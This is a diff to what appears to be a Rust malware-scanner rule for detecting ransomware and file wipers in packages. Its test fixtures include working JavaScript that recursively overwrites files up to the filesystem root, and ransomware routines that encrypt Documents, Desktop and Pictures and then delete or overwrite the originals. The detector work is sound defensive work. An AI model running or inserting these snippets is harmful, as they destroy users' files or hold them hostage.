@@ -24,12 +24,14 @@ crate::declare_rule! {
            "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
            "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
            "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
-           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction lock(key) { for (const dir of ['Desktop', 'Documents']) for (const p of list(path.join(os.homedir(), dir), [])) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
+           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction lock(key) { for (const dir of ['Desktop', 'Documents']) for (const p of list(path.join(os.homedir(), dir), [])) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }",
+           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nconst walk = (d) => fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]);\nfunction lock(key, iv) { for (const f of walk(path.join(os.homedir(), 'Pictures')).concat(walk(path.join(os.homedir(), 'Desktop')))) { const data = fs.readFileSync(f); const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(f, Buffer.concat([c.update(data), c.final()])) } }"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
            "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
            // vite 5.2.10: lists directories in one function, writes a fixed package.json into
            // its cache in another, and names '..' elsewhere; no walk overwrites anything
            "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine",
+           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction stamp(key) { for (const p of list(path.join(os.homedir(), 'Documents'), [])) { const h = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex'); const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'index.enc'), c.update(h)) } }",
            "const fs = require('fs'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nexports.seal = (dir, key) => { for (const p of list(dir, [])) { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
 }
 
@@ -230,8 +232,8 @@ fn check(pkg: &Package, out: &mut Emitter) {
 /// Ransomware: a recursive walk of the user's own folders (the home directory's Documents,
 /// Desktop, Pictures…, or every file with a document, image, database or key extension from a
 /// list written in the code) where one function encrypts each file's content
-/// (`createCipheriv`, WebCrypto `encrypt`), writes the result and removes or renames away the
-/// original. Encryption tools and backup programs encrypt what their user names and keep the
+/// (`createCipheriv`, WebCrypto `encrypt`), writes the result and removes, renames away or
+/// overwrites the original. Encryption tools and backup programs encrypt what their user names and keep the
 /// original, or write an archive elsewhere: the deletion beside the cipher in a walk over
 /// folders the code chose is what makes the files hostage. `(offset, what is walked)`.
 fn encrypts_user_files(f: &crate::package::FileCtx) -> Option<(u32, &'static str)> {
@@ -267,11 +269,33 @@ fn encrypts_user_files(f: &crate::package::FileCtx) -> Option<(u32, &'static str
     let scope_has = |sc: Option<(u32, u32)>, pred: &dyn Fn(&crate::js::Call) -> bool| {
         js.calls.iter().any(|c| pred(c) && js.scope_of(c.off) == sc)
     };
+    // The original overwritten with its ciphertext: `writeFile(p, …)` of the path the same
+    // function read (`readFile(p)`).
+    let in_place = |sc: Option<(u32, u32)>| {
+        let body = match sc {
+            Some((s, e)) => text
+                .get(s as usize..(e as usize).min(text.len()))
+                .unwrap_or(""),
+            None => text,
+        };
+        let read = crate::regex!(r"\breadFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*[,)]");
+        let write = crate::regex!(r"\bwriteFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*,");
+        let reads: Vec<&str> = read
+            .captures_iter(body)
+            .take(16)
+            .filter_map(|c| c.get(1).map(|m| m.as_str()))
+            .collect();
+        write
+            .captures_iter(body)
+            .take(16)
+            .filter_map(|c| c.get(1))
+            .any(|m| reads.contains(&m.as_str()))
+    };
     let hit = ciphers.iter().copied().find(|&o| {
         let sc = js.scope_of(o);
         scope_has(sc, &|c| {
             crate::rules::is_file_write(&c.path) || method(&c.path) == "writeFile"
-        }) && scope_has(sc, &removes)
+        }) && (scope_has(sc, &removes) || in_place(sc))
     })?;
     let folders = ["Documents", "Desktop", "Pictures", "Downloads", "OneDrive"]
         .iter()
